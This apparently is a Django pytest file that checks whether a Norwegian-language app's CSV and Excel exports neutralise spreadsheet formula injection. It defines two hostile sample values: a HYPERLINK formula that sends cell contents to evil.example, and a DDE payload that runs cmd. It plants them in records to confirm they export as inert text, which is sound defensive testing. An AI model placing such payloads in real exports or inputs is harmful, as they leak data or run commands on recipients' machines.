"""Every CSV and Excel export writes typed text as text: no cell a spreadsheet would run as a
formula (``=HYPERLINK(...)``, ``=cmd|...``, ``+``, ``-``, ``@``)."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from samskap.accounts.access import access_for
from samskap.core import spreadsheets
from samskap.registry.models import Initiative

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def formula_cells_in_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if spreadsheets.is_formula_like(cell)
    ]


def formula_cells_in_xlsx(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_one_function_keeps_csv_text_inert_and_xlsx_text_exact() -> None:
    assert spreadsheets.csv_row([HOSTILE, DDE, "-3", 7, -3, "Fjordvik"]) == [
        "'" + HOSTILE,
        "'" + DDE,
        "'-3",
        7,
        -3,
        "Fjordvik",
    ]


def test_every_export_is_formula_safe(world) -> None:
    from samskap.measurement import imports, surveys
    from samskap.measurement.models import LibraryIndicator
    from samskap.valuation import services
    from samskap.valuation.tests.test_engine import ranged_map
    from samskap.valuation.valuemap import parse

    Initiative.objects.filter(pk=world.public.pk).update(title=HOSTILE)
    Initiative.objects.filter(pk=world.internal.pk).update(title=DDE)
    world.partner_org.name = HOSTILE
    world.partner_org.save(update_fields=["name"])
    access = access_for(world.coordinator)
    data = ranged_map()
    data["title"] = HOSTILE
    data["inputs"][0]["stakeholder"] = HOSTILE
    data["outcomes"][0]["stakeholder"] = DDE
    data["outcomes"][0]["outcome"] = "+" + HOSTILE
    value_map = services.value_map_create(access=access, initiative=world.internal)
    services.value_map_import(
        access=access, value_map=value_map, expected_version=1, source=parse(data)
    )
    survey = surveys.survey_create(
        access=access,
        initiative=world.internal,
        title=HOSTILE,
        purpose=HOSTILE,
        consent_text="C",
        items=[LibraryIndicator.objects.get(code="life-satisfaction")],
    )
    surveys.time_point_add(access=access, survey=survey, kind="before", opens_on="2025-01-01")
    people = surveys.participants_create(access=access, initiative=world.internal, count=5)
    lines = "".join(f"{p.code},before,life-satisfaction,{i + 3}\n" for i, p in enumerate(people))
    upload = io.BytesIO(("code,time_point,item,value\n" + lines).encode())
    upload.name = "a.csv"
    assert imports.import_answers(access=access, survey=survey, source=upload).ok

    client = world.client(world.coordinator)
    slug = world.internal.slug
    exports = [
        "/rapporter/eksport/initiativ.csv",
        "/rapporter/eksport/initiativ.xlsx",
        "/rapporter/eksport/partnere.csv",
        "/rapporter/eksport/partnere.xlsx",
        "/apne-data/initiativ.csv",
        reverse("valuation:export_xlsx", args=[slug]),
        reverse("measurement:export", args=[slug, survey.pk, "csv"]),
        reverse("measurement:export", args=[slug, survey.pk, "xlsx"]),
    ]
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith(".csv"):
            assert formula_cells_in_csv(response.content) == [], url
        else:
            assert formula_cells_in_xlsx(response.content) == [], url
    # The hostile texts did reach the files (as text), so the check above saw them.
    book = load_workbook(io.BytesIO(client.get(exports[5]).content))
    assert HOSTILE in [c.value for row in book["Inputs"].iter_rows() for c in row]
